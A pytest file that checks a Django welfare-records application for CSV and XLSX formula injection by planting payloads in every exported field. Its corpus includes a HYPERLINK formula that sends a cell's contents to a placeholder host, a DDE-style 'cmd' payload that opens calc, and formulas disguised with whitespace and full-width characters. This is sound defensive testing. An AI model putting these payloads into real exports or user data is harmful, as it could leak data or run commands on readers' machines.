"""No cell that Pilar writes runs as a formula.

Text that begins like a formula is planted in every field that an export writes (a
person's name and address, a worker, an institution, an activity, a case, a monthly
report's narrative, a region's name, an import's error report, the access log); then
every export route is downloaded as CSV and as XLSX, the monthly report as XLSX, a
background export and the recap command's CSV, and every cell is read back (openpyxl
for workbooks): 0 cells are formulas or begin with a formula character.
"""

import csv
import io
import unicodedata
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from pilar.accounts.models import User
from pilar.activities.models import Activity, MonthlyReport
from pilar.audit.access import record_access
from pilar.audit.models import AccessAction
from pilar.beneficiaries.models import Person
from pilar.cases.models import Case
from pilar.core.tabular import LEADING_BLANKS, safe_cell
from pilar.exports.models import Export, ExportStatus
from pilar.imports.models import Upload
from pilar.regions.models import Region
from pilar.workforce.models import Institution, Worker
from tests.access_matrix import ROUTES, SUPERVISORS, Subject
from tests.personas import sign_in

CORPUS = [
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0bcmd|' /C calc'!A0",  # full-width +
    "\uff0d1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
]
EXPORTS = sorted(name for name in ROUTES if name.endswith("-export"))
FORMULA = ("=", "+", "-", "@")


def formula_like(text: str) -> bool:
    if text.startswith(("\t", "\r", "\n")):
        return True
    visible = text.lstrip(LEADING_BLANKS)[:1]
    return bool(visible) and unicodedata.normalize("NFKC", visible) in FORMULA


def plant(payload: str, subject: Subject) -> None:
    """The payload in every text field an export writes."""
    Person.objects.filter(pk=subject.person.pk).update(full_name=payload, birth_place=payload, address=payload)
    Worker.objects.filter(pk=subject.engagement.worker_id).update(full_name=payload, phone=payload[:20])
    Institution.objects.filter(pk=subject.institution.pk).update(name=payload, leader_name=payload, address=payload)
    Activity.objects.filter(pk=subject.activity.pk).update(title=payload, place=payload, notes=payload)
    Case.objects.filter(pk=subject.case.pk).update(summary=payload)
    MonthlyReport.objects.filter(pk=subject.report.pk).update(narrative=payload)
    Region.objects.filter(code__in=[subject.code, subject.district]).update(name=payload)
    subject.training  # noqa: B018 (made for the bimtek export)
    subject.quota  # noqa: B018
    Upload.objects.filter(pk=subject.upload.pk).update(
        report={
            "kind": "institutions",
            "filename": payload,
            "errors": [{"row": 2, "column": payload, "message": payload}],
        }
    )
    record_access(user=None, action=AccessAction.SEARCH, model=Person, ids=[], query=payload, path=payload)


def cells_of(response: Any) -> list[tuple[str, Any]]:
    """(where, value) of every cell in a CSV or XLSX answer; formulas as '=...'."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content.startswith(b"PK"):
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        found = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        found.append((f"{sheet.title}!{cell.coordinate} (formula)", "=" + str(cell.value)))
                    elif isinstance(cell.value, str):
                        found.append((f"{sheet.title}!{cell.coordinate}", cell.value))
        return found
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return [
        (f"row {number} column {column}", value)
        for number, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter), start=1)
        for column, value in enumerate(row, start=1)
    ]


@pytest.mark.parametrize("payload", CORPUS)
def test_safe_cell_quotes_every_formula_of_the_corpus(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload
    assert safe_cell("Siti Aminah") == "Siti Aminah"
    assert safe_cell("") == ""
    assert safe_cell(-5) == -5


@pytest.mark.django_db
@pytest.mark.parametrize("payload", CORPUS)
def test_no_export_writes_a_cell_that_runs_as_a_formula(
    payload: str, people: dict[str, User], django_capture_on_commit_callbacks: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    subject = Subject("village_a")
    plant(payload, subject)
    admin, supervisor = Client(), Client()
    sign_in(admin, people["admin"])
    sign_in(supervisor, people["operator_regency"])
    answers = []
    for name in EXPORTS:
        browser = supervisor if ROUTES[name].kind == SUPERVISORS else admin
        for export_format in ("csv", "xlsx"):
            kwargs = {**ROUTES[name].kwargs(subject), "export_format": export_format}
            answers.append((name, export_format, browser.get(reverse(name, kwargs=kwargs), {"region": "18"})))
    report = reverse("activities:report-download", kwargs={**subject.report_kwargs(), "file_format": "xlsx"})
    answers.append(("report-download", "xlsx", admin.get(report)))
    answers.append(("upload-errors", "xlsx", admin.get(reverse("imports:upload-errors", args=[subject.upload.pk]))))
    monkeypatch.setattr("pilar.exports.services.DIRECT_LIMIT", 0)
    with django_capture_on_commit_callbacks(execute=True):
        admin.get("/ppks/orang/unduh.csv")
    stored = Export.objects.get(requested_by=people["admin"])
    assert stored.status == ExportStatus.READY
    answers.append(("background export", "csv", admin.get(reverse("exports:export-file", args=[stored.pk]))))
    recap = io.StringIO()
    call_command("recap", "ppks", "--region", "18.01", "--format", "csv", stdout=recap)

    assert [(name, form, answer.status_code) for name, form, answer in answers if answer.status_code != 200] == []
    written = [(name, form, where, value) for name, form, answer in answers for where, value in cells_of(answer)]
    written += [
        ("recap", "csv", f"row {n}", value)
        for n, row in enumerate(csv.reader(io.StringIO(recap.getvalue())))
        for value in row
    ]
    assert [cell for cell in written if formula_like(str(cell[3]))] == []
    assert any(value == "'" + payload for _name, _form, _where, value in written)
